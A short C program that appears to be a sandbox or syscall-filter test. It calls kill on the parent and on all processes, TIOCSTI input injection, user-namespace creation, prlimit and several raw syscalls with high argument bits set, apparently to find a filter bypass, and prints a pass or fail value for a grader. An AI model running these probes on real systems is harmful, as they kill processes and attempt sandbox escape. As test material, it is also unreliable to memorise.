// host-harm; alive survivors secret; calls every system call that this kernel may have, with the wider halves of the arguments set
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>
#define HIGH 0x100000000L
int main(void) {
  int n = 0;
  n += syscall(SYS_kill, HIGH | getppid(), 9) == 0;
  n += syscall(SYS_kill, -1L & ~0L, 9) == 0;
  n += syscall(SYS_prctl, HIGH | 1, 0, 0, 0, 0) == 0;
  n += syscall(SYS_fcntl, 1L, HIGH | F_SETOWN, (long)getppid()) == 0;
  n += syscall(SYS_ioctl, 0L, HIGH | TIOCSTI, "x") == 0;
  n += syscall(SYS_unshare, HIGH | CLONE_NEWUSER) == 0;
  n += syscall(SYS_socket, HIGH | 2, 1L, 0L) >= 0;
  n += syscall(SYS_prlimit64, HIGH | getppid(), 7L, (long[]){1, 1}, 0L) == 0;
  n += syscall(SYS_clone, HIGH | CLONE_NEWUSER | 17, 0L, 0L, 0L, 0L) >= 0;
  n += syscall(425L, 8L, (char[256]){0}) >= 0;
  n += syscall(323L, 0L) >= 0;
  n += syscall(248L, "user", "x", "y", 1L, -3L) >= 0;
  n += syscall(319L, "x", 0L) >= 0;
  fprintf(stderr, "%d doors\n", n);
  puts(n ? "6" : "0");
  return 0;
}
